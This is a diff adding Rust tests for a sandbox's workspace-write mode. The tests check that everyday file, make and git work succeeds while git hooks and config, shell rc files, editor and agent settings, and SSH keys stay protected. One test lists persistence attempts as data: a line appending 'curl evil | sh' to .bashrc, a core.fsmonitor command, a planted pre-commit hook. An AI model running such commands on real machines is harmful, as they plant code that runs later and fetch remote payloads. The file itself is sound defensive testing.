@@ -1,0 +1,235 @@
+//! workspace-write that real projects live in: the workspace root and every
+//! directory stay fully usable while the protected paths (git hooks and
+//! config, shell rc files, editor and agent settings) stay write-denied.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Output;
+
+use sandbox_tests::sandbox;
+
+struct Ws {
+    _dir: tempfile::TempDir,
+    root: PathBuf,
+}
+
+fn ws() -> Ws {
+    let dir = tempfile::tempdir().unwrap();
+    let root = fs::canonicalize(dir.path()).unwrap();
+    Ws { _dir: dir, root }
+}
+
+/// The README's form: `sandbox run --mode workspace-write --workspace . -- sh -c script`.
+fn run(ws: &Path, extra: &[&str], script: &str) -> Output {
+    sandbox()
+        .args(["run", "--mode", "workspace-write", "--workspace", "."])
+        .args(extra)
+        .args(["--", "/bin/sh", "-c", script])
+        .current_dir(ws)
+        .env("HOME", ws)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("GIT_AUTHOR_NAME", "t")
+        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
+        .env("GIT_COMMITTER_NAME", "t")
+        .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
+        .output()
+        .unwrap()
+}
+
+#[track_caller]
+fn ok(out: &Output) -> String {
+    assert!(
+        out.status.success(),
+        "{:?}\nstdout: {}\nstderr: {}",
+        out.status,
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+#[test]
+fn the_root_and_subdirectories_stay_fully_usable() {
+    let w = ws();
+    fs::create_dir(w.root.join(".git")).unwrap(); // protections active
+    ok(&run(
+        &w.root,
+        &[],
+        "set -e; echo 1 > new.txt; mv new.txt renamed.txt; rm renamed.txt; \
+         mkdir -p build/obj; echo x > build/obj/a.o; mv build out; rm -r out; \
+         ln -s target link; rm link; touch stamp; chmod +x stamp; rm stamp",
+    ));
+    assert!(!w.root.join("new.txt").exists() && !w.root.join("out").exists());
+}
+
+#[test]
+fn make_creates_build_at_the_root() {
+    let w = ws();
+    fs::create_dir(w.root.join(".git")).unwrap();
+    fs::write(
+        w.root.join("Makefile"),
+        "all: build/hello\nbuild/hello: hello.c\n\tmkdir -p build\n\tcc -o build/hello hello.c\n",
+    )
+    .unwrap();
+    fs::write(w.root.join("hello.c"), "int main(void){return 0;}\n").unwrap();
+    ok(&run(&w.root, &[], "make -s && ./build/hello"));
+    assert!(w.root.join("build/hello").exists());
+}
+
+#[test]
+fn git_works_in_a_fresh_and_an_existing_repository() {
+    let w = ws();
+    // A repository the command creates itself.
+    ok(&run(
+        &w.root,
+        &[],
+        "set -e; git init -q -b main .; echo a > a; git add a; git commit -qm one; \
+         git checkout -qb feature; echo b > b; git add b; git commit -qm two; \
+         echo c > a; git stash -q; git stash pop -q; git checkout -q main; git log --oneline | wc -l",
+    ));
+    // Now it exists before the run: hooks and config are protected, and
+    // the everyday commands still work, a fetch from a local remote too.
+    let remote = ws();
+    ok(&run(
+        &remote.root,
+        &[],
+        "git init -q -b main . && echo r > r && git add r && git commit -qm r",
+    ));
+    let out = ok(&run(
+        &w.root,
+        &[],
+        &format!(
+            "set -e; echo d > d; git add d; git commit -qm three; git branch topic; \
+             git fetch -q {} main; git log --oneline | wc -l",
+            remote.root.display()
+        ),
+    ));
+    assert_eq!(out.trim(), "2", "main: one, then three");
+}
+
+#[test]
+fn protected_paths_are_refused_beside_their_twins() {
+    let w = ws();
+    ok(&run(&w.root, &[], "git init -q -b main ."));
+    fs::create_dir_all(w.root.join(".vscode")).unwrap();
+    let config_before = fs::read(w.root.join(".git/config")).unwrap();
+    for (attack, path) in [
+        (
+            "echo '#!/bin/sh' > .git/hooks/pre-commit",
+            ".git/hooks/pre-commit",
+        ),
+        (
+            "git config core.fsmonitor 'touch /tmp/pwned'",
+            ".git/config",
+        ),
+        ("echo 'curl evil | sh' >> .bashrc", ".bashrc"),
+        ("echo '{}' > .mcp.json", ".mcp.json"),
+        ("echo '{}' > .vscode/settings.json", ".vscode/settings.json"),
+        ("mv .git/hooks .git/old-hooks", ".git/old-hooks"),
+        (
+            "mkdir -p fake/hooks && rm -rf .git/hooks; mv fake/hooks .git/hooks",
+            ".git/hooks/x",
+        ),
+        ("ln .git/config cfg && echo x >> cfg", "cfg"),
+    ] {
+        let out = run(&w.root, &[], attack);
+        assert!(!out.status.success(), "{attack} succeeded");
+        let changed = w.root.join(path);
+        if path == ".git/config" || path == "cfg" {
+            assert_eq!(
+                fs::read(w.root.join(".git/config")).unwrap(),
+                config_before,
+                "{attack}"
+            );
+        } else if path != ".git/hooks/x" {
+            assert!(!changed.exists(), "{attack} created {path}");
+        }
+    }
+    assert!(
+        w.root.join(".git/hooks").is_dir(),
+        "the hooks directory is still there"
+    );
+    // Twins: the same writes to unprotected names work.
+    ok(&run(
+        &w.root,
+        &[],
+        "echo '#!/bin/sh' > pre-commit && echo x >> bashrc && echo '{}' > mcp.json && \
+         mkdir -p vscode && echo '{}' > vscode/settings.json",
+    ));
+}
+
+#[test]
+fn the_real_git_directory_behind_a_git_file_is_protected() {
+    let main = ws();
+    ok(&run(
+        &main.root,
+        &[],
+        "git init -q -b main . && echo a > a && git add a && git commit -qm a",
+    ));
+    let wt_parent = ws();
+    let wt = wt_parent.root.join("wt");
+    let out = std::process::Command::new("git")
+        .args(["-C"])
+        .arg(&main.root)
+        .args(["worktree", "add", "-q"])
+        .arg(&wt)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let hook = main.root.join(".git/hooks/post-checkout");
+    let out = run(&wt, &[], &format!("echo '#!/bin/sh' > {}", hook.display()));
+    assert!(!out.status.success());
+    assert!(!hook.exists());
+}
+
+#[test]
+fn the_secrets_preset_hides_credentials_and_nothing_else() {
+    let home = ws();
+    fs::create_dir(home.root.join(".ssh")).unwrap();
+    fs::write(home.root.join(".ssh/id_ed25519"), "secret").unwrap();
+    fs::write(home.root.join("notes"), "readable").unwrap();
+    let w = ws();
+    let read = |flags: &[&str], file: &str| {
+        sandbox()
+            .args(["run", "-w"])
+            .arg(&w.root)
+            .args(flags)
+            .args(["--", "/bin/cat"])
+            .arg(home.root.join(file))
+            .env("HOME", &home.root)
+            .output()
+            .unwrap()
+    };
+    assert!(!read(&["--secrets"], ".ssh/id_ed25519").status.success());
+    assert_eq!(ok(&read(&["--secrets"], "notes")), "readable");
+    // Twin: without the preset the key is readable (the refusal is the preset's).
+    assert_eq!(ok(&read(&[], ".ssh/id_ed25519")), "secret");
+    let policy = sandbox()
+        .args(["policy", "--secrets"])
+        .env("HOME", &home.root)
+        .output()
+        .unwrap();
+    assert!(ok(&policy).contains(".ssh"));
+}
+
+#[test]
+fn sandbox_policy_prints_the_effective_protections() {
+    let w = ws();
+    fs::create_dir(w.root.join(".git")).unwrap();
+    let out = sandbox()
+        .args(["policy", "--mode", "workspace-write", "--workspace"])
+        .arg(&w.root)
+        .output()
+        .unwrap();
+    let text = ok(&out);
+    for p in [".git/hooks", ".git/config", ".bashrc", ".mcp.json"] {
+        assert!(
+            text.contains(&w.root.join(p).display().to_string()),
+            "{p}: {text}"
+        );
+    }
+}
